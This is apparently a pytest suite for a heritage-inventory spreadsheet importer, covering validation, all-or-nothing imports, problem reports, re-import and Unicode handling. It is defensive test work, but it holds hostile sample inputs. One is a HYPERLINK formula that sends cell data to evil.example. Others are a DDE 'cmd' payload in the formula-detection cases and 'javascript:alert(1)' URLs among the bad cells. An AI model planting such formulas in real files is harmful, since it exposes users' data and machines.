"""Importing inventory spreadsheets (CSV and XLSX): checks, the all-or-nothing rule, reports."""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select

from server.catalog import import_catalog_file
from server.cells import looks_like_formula
from server.db import Database
from server.errors import PayloadTooLarge, ValidationError
from server.importer import (
    ImportReport,
    RejectedImport,
    import_file,
    read_table,
    write_problem_report,
)
from server.migrate import upgrade
from server.models import Record
from server.search import SearchQuery, search
from tests.conftest import SEED_CATALOG

DATA = Path(__file__).parent / "data" / "import"
FAULTY_CSV = DATA / "faulty.csv"
FULL_CSV = DATA / "inventory-full.csv"
HEADER = ["seed_id", "entity_type", "name_vi", "name_en", "designation", "registration_number"]
# The problems faulty.csv holds, by row: unknown ranking, missing Vietnamese name, duplicate
# registration number, bytes that are not UTF-8, a formula.
FAULTY_CSV_PROBLEMS = {
    (3, "designation"),
    (4, "name_vi"),
    (5, "registration_number"),
    (6, "name_vi"),
    (7, "description_vi"),
}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture
def db(database_url: str) -> Iterator[Database]:
    database = Database(database_url)
    upgrade(database)
    yield database
    database.dispose()


def write_csv(path: Path, rows: Sequence[Sequence[object]], header: Sequence[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def write_xlsx(
    path: Path,
    rows: Sequence[Sequence[Any]],
    header: Sequence[str] = HEADER,
    title: str = "Sheet1",
    above: Sequence[Sequence[Any]] = (),
) -> Path:
    """An XLSX file as openpyxl writes it: a str beginning with "=" becomes a formula cell."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in [*above, header, *rows]:
        sheet.append(list(row))
    workbook.save(path)
    return path


def count_records(db: Database) -> int:
    return int(db.call(lambda s: s.scalar(select(func.count()).select_from(Record))))


def run_import(db: Database, path: Path, partial: bool = False) -> ImportReport:
    return db.call(lambda s: import_file(s, path, partial), write=True)


def problem_cells(report: ImportReport) -> set[tuple[int, str]]:
    return {(p.line, p.column) for p in report.problems}


# The acceptance item: a faulty file writes nothing and reports every faulty row


def test_faulty_csv_writes_nothing_and_reports_every_faulty_row(db: Database) -> None:
    report = run_import(db, FAULTY_CSV)
    assert report.rejected
    assert problem_cells(report) == FAULTY_CSV_PROBLEMS
    assert (report.rows_checked, report.faulty_rows) == (7, 5)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 0)
    assert count_records(db) == 0
    by_cell = {(p.line, p.column): p for p in report.problems}
    assert "unknown ranking" in by_cell[3, "designation"].message
    assert by_cell[3, "designation"].value == "Di sản cấp sao Hỏa"
    assert "Vietnamese name" in by_cell[4, "name_vi"].message
    assert "first used on line 2" in by_cell[5, "registration_number"].message
    assert "UTF-8" in by_cell[6, "name_vi"].message
    assert by_cell[6, "name_vi"].value == "Bu\ufffdn \ufffd\ufffdn"
    assert "formula" in by_cell[7, "description_vi"].message


def test_faulty_xlsx_writes_nothing_and_reports_every_faulty_row(
    db: Database, tmp_path: Path
) -> None:
    rows = [
        ["X-OK-1", "hien_vat", "Ché mẫu", "Jar", "", "REG-1"],
        ["X-RANK", "di_tich", "Di tích", "Relic", "Di sản cấp sao Hỏa", "REG-2"],
        ["X-NAME", "hien_vat", None, "Nameless", "", "REG-3"],
        ["X-DUP", "hien_vat", "Ché hai", "Jar 2", "", "REG-1"],
        ["X-FORMULA", "hien_vat", "Ché ba", HYPERLINK, "", "REG-5"],
        ["X-CONTROL", "hien_vat", "Ché\x9b bốn", "Jar 4", "", "REG-6"],
        ["X-OK-2", "hien_vat", "Gùi mẫu", "Basket", "", "REG-7"],
    ]
    path = write_xlsx(tmp_path / "faulty.xlsx", rows)
    report = run_import(db, path)
    assert report.rejected
    assert problem_cells(report) == {
        (3, "designation"),
        (4, "name_vi"),
        (5, "registration_number"),
        (6, "name_en"),
        (7, "name_vi"),
    }
    formula = next(p for p in report.problems if p.column == "name_en")
    assert formula.value.startswith("=HYPERLINK(")
    assert count_records(db) == 0


def test_xlsx_title_rows_and_the_catalog_sheet(tmp_path: Path) -> None:
    path = tmp_path / "inventory.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["not the catalog"])
    sheet = workbook.create_sheet("Danh mục")
    sheet.append(["DANH MỤC HIỆN VẬT"])
    sheet.append([])
    sheet.append([*HEADER, "ranking_year", "date_earliest", "needs_verify", "dating", "Ghi chú"])
    sheet.append(["X-1", "hien_vat", "Ché", "Jar", "", "", 2005, -500.0, True, 12.5, "nội bộ"])
    sheet.append([])
    sheet.append(["X-2", "hien_vat", "Gùi", "Basket"])
    workbook.save(path)
    table = read_table(path)
    assert [line for line, _ in table.rows] == [4, 6]
    assert table.ignored_columns == ("ghi chú",)
    first = dict(zip(table.header, table.rows[0][1], strict=False))
    assert (first["ranking_year"], first["date_earliest"], first["needs_verify"]) == (
        "2005",
        "-500",
        "TRUE",
    )
    assert first["dating"] == "12.5"


def test_partial_import_writes_the_good_rows_and_reports_the_rest(db: Database) -> None:
    report = run_import(db, FAULTY_CSV, partial=True)
    assert not report.rejected
    assert problem_cells(report) == FAULTY_CSV_PROBLEMS
    assert (report.created, report.updated, report.unchanged) == (2, 0, 0)
    ids = set(db.call(lambda s: s.scalars(select(Record.id)).all()))
    assert ids == {"TEST-OK-1", "TEST-OK-2"}
    text = report.render()
    assert "2 records: 2 new, 0 updated, 0 unchanged." in text
    assert "5 faulty row(s) skipped." in text and "nothing was imported" not in text


def test_partial_xlsx_import(db: Database, tmp_path: Path) -> None:
    rows = [["X-1", "hien_vat", "Ché", "Jar", "", ""], ["X-2", "spaceship", "Tàu", "Ship", "", ""]]
    report = run_import(db, write_xlsx(tmp_path / "p.xlsx", rows), partial=True)
    assert (report.created, report.faulty_rows) == (1, 1)
    assert db.call(lambda s: s.get(Record, "X-1")) is not None


def test_problem_report_csv_neutralises_formulas(db: Database, tmp_path: Path) -> None:
    report = run_import(db, FAULTY_CSV)
    out = tmp_path / "report" / "problems.csv"
    write_problem_report(report, out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(int(r["line"]), r["column"]) for r in rows] == sorted(FAULTY_CSV_PROBLEMS)
    formula = next(r for r in rows if r["column"] == "description_vi")
    assert formula["value"] == "'" + HYPERLINK
    assert list(out.parent.iterdir()) == [out]  # no temporary file left behind


def test_rejected_import_raises_with_every_problem(db: Database) -> None:
    with pytest.raises(RejectedImport) as caught:
        db.call(lambda s: import_catalog_file(s, FAULTY_CSV), write=True)
    assert caught.value.status == 422
    assert caught.value.params["count"] == 5
    assert {(p.line, p.column) for p in caught.value.problems} == FAULTY_CSV_PROBLEMS
    assert count_records(db) == 0


def test_report_renders_for_the_command_line(db: Database) -> None:
    text = run_import(db, FAULTY_CSV).render()
    assert text.splitlines()[:2] == [
        "7 row(s) checked in faulty.csv.",
        "5 problem(s) in the file; nothing was imported.",
    ]
    assert "line 4, name_vi: the Vietnamese name is required" in text
    assert "line 7, description_vi: looks like a spreadsheet formula" in text
    translations = {
        "line {line}, {column}: {message}": "dòng {line}, {column}: {message}",
        "the Vietnamese name is required": "thiếu tên tiếng Việt",
        "{rows} row(s) checked in {source}.": "{hàng} broken placeholder",
    }
    vietnamese = run_import(db, FAULTY_CSV).render(lambda m: translations.get(m, m))
    assert "dòng 4, name_vi: thiếu tên tiếng Việt" in vietnamese
    assert vietnamese.startswith("7 row(s) checked in faulty.csv.")  # broken: English instead


# Idempotence, merging and the database


def test_reimport_updates_and_never_duplicates(db: Database, tmp_path: Path) -> None:
    first = run_import(db, FULL_CSV)
    second = run_import(db, FULL_CSV)
    assert (first.created, first.updated, first.unchanged) == (3, 0, 0)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 3)
    assert count_records(db) == 3
    changed = FULL_CSV.read_text(encoding="utf-8").replace("Thế kỷ XIII", "Thế kỷ XIV")
    (tmp_path / "changed.csv").write_text(changed, encoding="utf-8")
    third = run_import(db, tmp_path / "changed.csv")
    assert (third.created, third.updated, third.unchanged) == (0, 1, 2)
    assert db.call(lambda s: s.get(Record, "TEST-REL-01")).dating == "Thế kỷ XIV"
    hits = db.call(lambda s: search(s, SearchQuery(text="the ky xiv")))
    assert hits.ids == ["TEST-REL-01"]  # the search index follows the change


def test_full_inventory_fields_are_stored(db: Database) -> None:
    run_import(db, FULL_CSV)
    gong = db.call(lambda s: s.get(Record, "TEST-ART-01"))
    assert gong.designation == "hien_vat_bao_tang"  # given by its Vietnamese label
    assert (gong.subtype, gong.registration_number) == ("di_vat", "BTĐL-TEST-001")
    assert (gong.materials, gong.techniques) == (["Đồng", "Thiếc"], ["Đúc"])
    assert (gong.date_earliest, gong.date_latest, gong.digitization_priority) == (1800, 1899, 1)
    assert gong.rights == "http://rightsstatements.org/vocab/InC/1.0/"
    assert gong.sources == ["https://example.org/a", "https://example.org/b"]
    assert gong.description["vi"] == "Mô tả mẫu, dòng 1.\nDòng 2."
    site = db.call(lambda s: s.get(Record, "TEST-ARC-01"))
    assert (site.date_earliest, site.date_latest, site.access_level) == (-2000, -1000, "restricted")
    relic = db.call(lambda s: s.get(Record, "TEST-REL-01"))
    assert (relic.designation, relic.subtype) == ("di_tich_quoc_gia", "kien_truc_nghe_thuat")
    assert relic.access_level == "public"  # an empty cell gives a new record the default


def test_ede_text_is_stored_nfc(db: Database) -> None:
    raw = FULL_CSV.read_text(encoding="utf-8")
    assert unicodedata.normalize("NFD", "Čing") in raw  # the fixture is decomposed on purpose
    run_import(db, FULL_CSV)
    gong = db.call(lambda s: s.get(Record, "TEST-ART-01"))
    assert gong.title["rad"] == "Čing mẫu"
    assert unicodedata.is_normalized("NFC", gong.title["rad"])
    # ê̆ has no precomposed form: NFC keeps ê + U+0306, and so must the store.
    assert gong.description["rad"] == "Klei \u00ea\u0306 mẫu"
    for text in [*gong.title.values(), *gong.description.values()]:
        assert unicodedata.is_normalized("NFC", text)


def test_empty_cells_and_absent_columns_keep_what_they_should(db: Database, tmp_path: Path) -> None:
    run_import(db, FULL_CSV)
    header = ["seed_id", "entity_type", "name_vi", "access_level", "materials"]
    rows = [["TEST-ARC-01", "di_tich", "Di chỉ khảo cổ mẫu (dữ liệu thử)", "", ""]]
    report = run_import(db, write_csv(tmp_path / "thin.csv", rows, header))
    assert report.updated == 1
    site = db.call(lambda s: s.get(Record, "TEST-ARC-01"))
    assert site.access_level == "restricted"  # a blank never opens a restricted record
    assert site.materials == []  # an empty cell of a present column clears it
    assert site.techniques == ["Ghè đẽo"]  # an absent column leaves the field alone
    assert site.title["en"] == "Sample archaeological site (test data)"  # name_en absent


def test_a_language_column_empties_only_its_language(db: Database, tmp_path: Path) -> None:
    run_import(db, FULL_CSV)
    header = ["seed_id", "entity_type", "name_vi", "name_rad"]
    rows = [["TEST-ART-01", "hien_vat", "Bộ chiêng mẫu (dữ liệu thử)", ""]]
    run_import(db, write_csv(tmp_path / "rad.csv", rows, header))
    gong = db.call(lambda s: s.get(Record, "TEST-ART-01"))
    assert gong.title == {"vi": "Bộ chiêng mẫu (dữ liệu thử)", "en": "Sample gong set (test data)"}


def test_seed_reimport_keeps_structured_fields(db: Database, tmp_path: Path) -> None:
    db.call(lambda s: import_catalog_file(s, SEED_CATALOG), write=True)
    header = ["seed_id", "entity_type", "name_vi", "materials", "registration_number"]
    rows = [["DL-ART-01", "hien_vat", "placeholder", "Đồng", "BTĐL-1"]]
    name = db.call(lambda s: s.get(Record, "DL-ART-01")).title["vi"]
    rows[0][2] = name
    run_import(db, write_csv(tmp_path / "extra.csv", rows, header))
    again = db.call(lambda s: import_catalog_file(s, SEED_CATALOG), write=True)
    assert again.unchanged == 31
    artefact = db.call(lambda s: s.get(Record, "DL-ART-01"))
    assert (artefact.materials, artefact.registration_number) == (["Đồng"], "BTĐL-1")


def test_registration_number_of_another_stored_record_is_refused(
    db: Database, tmp_path: Path
) -> None:
    run_import(db, write_csv(tmp_path / "a.csv", [["A-1", "hien_vat", "Ché", "", "", "REG-9"]]))
    rows = [["A-2", "hien_vat", "Gùi", "", "", "REG-9"], ["A-3", "hien_vat", "Nồi", "", "", ""]]
    report = run_import(db, write_csv(tmp_path / "b.csv", rows))
    assert report.rejected
    assert [(p.line, p.column) for p in report.problems] == [(2, "registration_number")]
    assert "A-1" in report.problems[0].message
    assert count_records(db) == 1
    partial = run_import(db, tmp_path / "b.csv", partial=True)
    assert (partial.created, partial.faulty_rows) == (1, 1)


def test_registration_numbers_may_swap_in_one_file(db: Database, tmp_path: Path) -> None:
    rows = [
        ["A-1", "hien_vat", "Ché", "", "", "REG-1"],
        ["A-2", "hien_vat", "Gùi", "", "", "REG-2"],
    ]
    run_import(db, write_csv(tmp_path / "a.csv", rows))
    swapped = [
        ["A-1", "hien_vat", "Ché", "", "", "REG-2"],
        ["A-2", "hien_vat", "Gùi", "", "", "REG-1"],
    ]
    report = run_import(db, write_csv(tmp_path / "b.csv", swapped))
    assert (report.problems, report.updated) == ([], 2)
    numbers = db.call(
        lambda s: {i: n for i, n in s.execute(select(Record.id, Record.registration_number))}
    )
    assert numbers == {"A-1": "REG-2", "A-2": "REG-1"}


def test_deleted_records_keep_their_registration_number(db: Database, tmp_path: Path) -> None:
    from server.models import utcnow

    run_import(db, write_csv(tmp_path / "a.csv", [["A-1", "hien_vat", "Ché", "", "", "REG-1"]]))
    db.call(lambda s: setattr(s.get(Record, "A-1"), "deleted_at", utcnow()), write=True)
    report = run_import(
        db, write_csv(tmp_path / "b.csv", [["A-2", "hien_vat", "G", "", "", "REG-1"]])
    )
    assert report.rejected and "A-1" in report.problems[0].message


def test_long_text_fits_both_engines(db: Database, tmp_path: Path) -> None:
    """PostgreSQL refuses what does not fit a column; SQLite would store it: the import decides."""
    rows = [["A-1", "hien_vat", "Ché", "", "", "R" * 65]]
    report = run_import(db, write_csv(tmp_path / "long.csv", rows))
    assert [(p.column, p.message) for p in report.problems] == [
        ("registration_number", "is longer than 64 characters")
    ]


# Cells


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ('=HYPERLINK("http://x","y")', True),
        ("=1+1", True),
        ("  =cmd", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("+SUM(A1:A3)", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("@SUM(A1)", True),
        ("-A1", True),
        ("+$B$2*3", True),
        ("-=1", True),
        ("-500", False),
        ("-12.5", False),
        ("+84 912 345 678", False),
        ("- Bộ chiêng (6 chiếc)", False),
        ("- xem tài liệu(2)", False),
        ("@buon_ako_dhong", False),
        ("-300 đến -100", False),
        ("Đồng; Thiếc", False),
        ("HYPERLINK(x)", False),
        ("", False),
    ],
)
def test_formula_detection(cell: str, formula: bool) -> None:
    assert looks_like_formula(cell) is formula


def check_one(tmp_path: Path, header: Sequence[str], row: Sequence[str]) -> set[tuple[int, str]]:
    from server.importer import check_table

    checked = check_table(read_table(write_csv(tmp_path / "one.csv", [row], header)))
    return {(p.line, p.column) for p in checked.problems}


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("date_earliest", "thế kỷ 19"),
        ("date_earliest", "12.5"),
        ("date_latest", "99999999"),
        ("digitization_priority", "6"),
        ("digitization_priority", "high"),
        ("access_level", "everyone"),
        ("digitization_status", "half"),
        ("rights", "javascript:alert(1)"),
        ("rights", "CC BY 4.0"),
        ("source_url", "https://ok.example ; javascript:alert(1)"),
        ("subtype", "le_hoi"),  # a festival is not an artefact's subtype
        ("designation", "unesco"),  # not a ranking an artefact can have
        ("seed_id", "DL X 1"),
        ("entity_type", "spaceship"),
    ],
)
def test_bad_cells_are_reported(tmp_path: Path, column: str, value: str) -> None:
    header = ["seed_id", "entity_type", "name_vi", column] if column not in HEADER[:2] else HEADER
    row = {"seed_id": "A-1", "entity_type": "hien_vat", "name_vi": "Ché", column: value}
    assert check_one(tmp_path, header, [row.get(name, "") for name in header]) == {(2, column)}


@pytest.mark.parametrize(
    ("column", "value", "attribute", "expected"),
    [
        ("designation", "Hiện vật bảo tàng", "designation", "hien_vat_bao_tang"),
        ("designation", "HIEN VAT BAO TANG", "designation", "hien_vat_bao_tang"),
        ("designation", "Museum artefact", "designation", "hien_vat_bao_tang"),
        ("designation", "bao_vat_quoc_gia", "designation", "bao_vat_quoc_gia"),
        ("designation", "bảo vật quốc gia", "designation", "bao_vat_quoc_gia"),
        ("subtype", "Cổ vật", "subtype", "co_vat"),
        ("access_level", "Cán bộ bảo tàng", "access_level", "staff"),
        ("digitization_status", "Digitized", "digitization_status", "digitized"),
        ("date_earliest", "-500", "date_earliest", -500),
        ("materials", " Đồng ;; Thiếc ; ", "materials", ["Đồng", "Thiếc"]),
    ],
)
def test_codes_and_labels_are_accepted(
    tmp_path: Path, column: str, value: str, attribute: str, expected: object
) -> None:
    from server.importer import check_table

    header = ["seed_id", "entity_type", "name_vi", column]
    path = write_csv(tmp_path / "one.csv", [["A-1", "hien_vat", "Ché", value]], header)
    checked = check_table(read_table(path))
    assert checked.problems == []
    assert getattr(checked.rows[0].record, attribute) == expected


def test_ranking_is_read_from_the_free_text_when_no_code_is_given(tmp_path: Path) -> None:
    from server.importer import check_table

    header = ["seed_id", "entity_type", "name_vi", "ranking_or_listing", "designation"]
    rows = [["A-1", "di_tich", "Tháp", "Di tích quốc gia đặc biệt (2018)", ""]]
    checked = check_table(read_table(write_csv(tmp_path / "r.csv", rows, header)))
    assert checked.rows[0].record.designation == "quoc_gia_dac_biet"


def test_dates_must_be_in_order(tmp_path: Path) -> None:
    header = ["seed_id", "entity_type", "name_vi", "date_earliest", "date_latest"]
    assert check_one(tmp_path, header, ["A-1", "hien_vat", "Ché", "1900", "1800"]) == {
        (2, "date_latest")
    }


def test_extra_csv_fields_are_faulty(tmp_path: Path) -> None:
    path = tmp_path / "extra.csv"
    path.write_text("seed_id,entity_type,name_vi\nA-1,hien_vat,Ché,extra\n", encoding="utf-8")
    from server.importer import check_table

    assert [(p.line, p.column) for p in check_table(read_table(path)).problems] == [(2, "-")]


def test_long_cells_are_faulty(tmp_path: Path) -> None:
    from server.cells import MAX_FIELD_LENGTH

    header = ["seed_id", "entity_type", "name_vi", "provenance"]
    row = ["A-1", "hien_vat", "Ché", "x" * (MAX_FIELD_LENGTH + 1)]
    assert check_one(tmp_path, header, row) == {(2, "provenance")}


def test_semicolon_csv_from_vietnamese_excel() -> None:
    from server.importer import check_table

    checked = check_table(read_table(DATA / "semicolon.csv"))
    assert checked.problems == []
    record = checked.rows[0].record
    assert (record.title["vi"], record.materials) == ("Gùi mẫu, loại nhỏ", ["Mây", "Tre"])


def test_line_numbers_count_blank_rows_as_excel_does(tmp_path: Path) -> None:
    path = tmp_path / "gaps.csv"
    path.write_text(
        "seed_id,entity_type,name_vi\n\nA-1,hien_vat,Ché\n,,\nA-2,spaceship,Tàu\n",
        encoding="utf-8",
    )
    from server.importer import check_table

    checked = check_table(read_table(path))
    assert [row.line for row in checked.rows] == [3]
    assert [(p.line, p.column) for p in checked.problems] == [(5, "entity_type")]


# Whole-file faults


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"\xff\xfes\x00e\x00", "UTF-16"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, ".xls"),
        (b"id,name\n1,x\n", "seed_id"),
        (b"seed_id,entity_type,name_vi\n", "no records"),
        (b"", "no records"),
        (b"seed_id,entity_type,name_vi,name_vi\nA,hien_vat,x,y\n", "more than once"),
        (b"seed_id,entity_type,n\xe2m_vi\nA,hien_vat,x\n", "byte 21"),
        (b"PK\x03\x04 this is not a workbook", "cannot be read"),
        (b'seed_id,entity_type,name_vi\nA,hien_vat,"open\nB,hien_vat,x\n', "malformed near row 3"),
        (b'seed_id,entity_type,name_vi\nA,hien_vat,"x"y\n', "malformed near row 2"),
    ],
)
def test_whole_file_faults(tmp_path: Path, content: bytes, words: str) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)
    with pytest.raises(ValidationError) as caught:
        read_table(path)
    assert words in str(caught.value)


def test_limits(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import server.importer as importer

    rows = [[f"A-{i}", "hien_vat", "Ché", "", "", ""] for i in range(3)]
    path = write_csv(tmp_path / "three.csv", rows)
    monkeypatch.setattr(importer, "MAX_ROWS", 2)
    with pytest.raises(PayloadTooLarge, match="more than 2 rows"):
        read_table(path)
    monkeypatch.setattr(importer, "MAX_FILE_SIZE", 10)
    with pytest.raises(PayloadTooLarge, match="larger than"):
        read_table(path)


def test_xlsx_unpacked_size_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import server.importer as importer

    path = write_xlsx(tmp_path / "big.xlsx", [["A-1", "hien_vat", "Ché", "", "", ""]])
    assert len(read_table(path).rows) == 1
    monkeypatch.setattr(importer, "MAX_UNPACKED_SIZE", 1000)
    with pytest.raises(PayloadTooLarge):
        read_table(path)


def test_every_column_is_documented() -> None:
    from server.catalog import COLUMNS

    docs = (Path(__file__).parent.parent / "docs" / "import-export.md").read_text(encoding="utf-8")
    for column in COLUMNS:
        assert f"| `{column}` |" in docs, column
